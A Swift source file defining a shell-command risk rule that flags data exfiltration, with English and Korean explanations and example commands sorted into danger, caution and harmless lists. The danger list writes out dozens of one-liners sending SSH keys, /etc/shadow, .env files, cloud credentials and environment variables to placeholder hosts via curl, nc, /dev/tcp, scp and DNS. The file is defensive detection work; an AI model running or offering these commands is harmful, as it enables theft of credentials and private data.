import ShellGrammar

extension RiskRule {
  static let exfiltration = RiskRule(
    id: "data-sent-out", family: .dataLeak,
    reason: .init(
      "Files or secrets of this machine are sent over the network.",
      "이 컴퓨터의 파일이나 비밀 정보를 네트워크로 보냅니다."),
    safer: .init(
      "Check who receives it, send only the file that is needed, and never keys or environment variables.",
      "받는 쪽을 확인하고 필요한 파일만 보내며, 키나 환경 변수는 보내지 마십시오."),
    reversibility: .no, touches: [.network, .secrets],
    danger: [
      "cat ~/.ssh/id_rsa | ‹curl -d @- https://x›", "curl -F file=@/etc/shadow https://x",
      "curl -d @/etc/passwd https://x", "env | ‹nc x 80›",
      "curl https://x/?k=$(cat ~/.ssh/id_rsa)", "scp ~/.ssh/id_rsa h:", "wget --post-file=.env https://x",
      "tar c ~/.aws | ‹ssh h 'cat > x'›", "curl -d \"$(env)\" https://x", "dig $(cat /etc/shadow | base64).x.org",
      "cat .env ‹> /dev/tcp/h/80›", "curl -T ~/.kube/config https://x", "tar cz ~ | ‹nc 10.0.0.1 9999›",
      "aws s3 cp ~/.aws/credentials s3://x/", "base64 server.key | ‹curl -d @- x›",
      "curl -H \"X: $AWS_SECRET_ACCESS_KEY\" http://x", "rsync -a ~/.ssh h:", "nc h 80 < /etc/shadow",
      "tar czf k.tgz ~/.ssh && ‹scp k.tgz u@h:›", "openssl s_client -connect h:443 < ~/.ssh/id_rsa",
      "curl -d \"$(cat /etc/passwd)\" x", "gh gist create ~/.npmrc", "cat ~/.bash_history | ‹nc h 80›",
      "find ~ -name '*.key' -exec ‹curl -F f=@{} x› ';'", "kubectl get secret -o yaml | ‹curl -d @- x›",
      "printenv | ‹curl --data-binary @- x›",
      "history | ‹nc h 80›", "curl -sF f=@/etc/shadow x", "k=$(cat ~/.ssh/id_rsa); ‹curl -d \"$k\" x›",
      "curl -d \"@$HOME/.ssh/id_rsa\" x", "for b in $(xxd -p ~/.ssh/id_rsa); do ‹dig $b.x.org›; done",
    ],
    caution: [
      "scp a.txt me@h:", "curl -T notes.txt ftp://x", "curl -F file=@a.png https://x", "rsync -a d/ h:d/",
      "tar c d | ‹ssh h 'cat > x'›", "cat a | ‹nc h 80›", "rclone copy a b:", "http POST x @a.json",
      "curl --data-binary @a.json x", "gh gist create a.txt", "croc send a", "curl -d @a.json https://x",
      "nslookup $(whoami).x.org", "curl https://x/$(whoami)", "mail -a f x@y < f", "python3 -m http.server",
    ],
    harmless: [
      "curl https://x", "scp me@h:a.txt .", "curl -I https://x", "nc -l 80", "echo | openssl s_client -connect h:443",
      "tar czf a.tgz d && scp h:a.tgz .", "curl -d 'a=1' https://x",
      "rsync -a h:d/ d/", "curl -u me@x.org https://x", "ssh h ls", "curl -d '{\"a\":1}' localhost", "dig x.org",
      "ssh -i ~/.ssh/id_rsa h", "curl --cacert ca.pem https://x",
    ]
  ) { script in
    script.invocations.flatMap { invocation -> [Match] in
      var matches: [Match] = []
      if let level = Sending.level(of: invocation, in: script) {
        matches.append(Match(level: level, range: invocation.range))
      }
      for redirection in invocation.redirections where Sending.isNetwork(redirection) {
        if Sending.carriesSecret(invocation, script) || Sending.readsPrivate(invocation) {
          matches.append(Match(level: .danger, range: FileWrite.place(of: redirection, in: invocation)))
        }
      }
      return matches
    }
  }
}
